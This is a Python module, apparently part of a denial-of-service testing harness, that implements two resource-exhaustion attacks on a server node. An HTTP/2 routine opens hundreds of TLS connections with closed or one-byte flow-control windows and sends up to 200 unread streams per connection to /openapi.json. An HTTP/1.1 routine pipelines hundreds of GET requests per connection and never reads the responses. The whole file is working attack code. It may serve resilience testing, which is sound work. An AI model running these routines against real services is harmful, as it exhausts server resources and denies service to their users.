"""Asks for much and takes none of it: the answers have to wait somewhere."""
import time

import http2
from wire import get

PATH = "/openapi.json"
CONNECTIONS = 400


def h2(attack, spread=1, window=0, trickle=False):
    """Streams whose window is closed, or whose connection is not read. `trickle`: a byte of window at a time."""
    def one(index):
        connection = http2.Connection(
            attack.tls(index % spread, "h2", window=4_096), {http2.INITIAL_WINDOW_SIZE: window})
        attack.held.append(connection)
        if not window:
            # A look at the node's settings: how many streams it allows.
            connection.read()
        streams = min(connection.streams, 200)
        for first in range(0, streams, 20):
            connection.send(*[
                http2.request(2 * number + 1, PATH) for number in range(first, min(first + 20, streams))])
        attack.count("streams", streams)

    attack.crowd(attack.scaled(CONNECTIONS), one)
    while trickle and attack.left() > 0:
        for connection in list(attack.held):
            try:
                connection.send(*[http2.window_update(2 * number + 1, 1) for number in range(connection.streams)])
                attack.count("bytes asked for", connection.streams)
            except OSError:
                attack.held.remove(connection)
                attack.count("closed by the node")
            if attack.left() <= 0:
                break
        time.sleep(0.5)
    attack.hold()


def h1(attack, spread=1):
    """Requests of HTTP/1.1, many in a row, and nothing read."""
    def one(index):
        made = attack.tls(index % spread, window=4_096)
        attack.held.append(made)
        made.settimeout(1)
        try:
            for _ in range(10):
                made.sendall(get(PATH) * 50)
                attack.count("requests", 50)
        except TimeoutError:
            attack.count("connections that the node stopped reading")

    attack.crowd(attack.scaled(CONNECTIONS), one, threads=16)
    attack.hold()
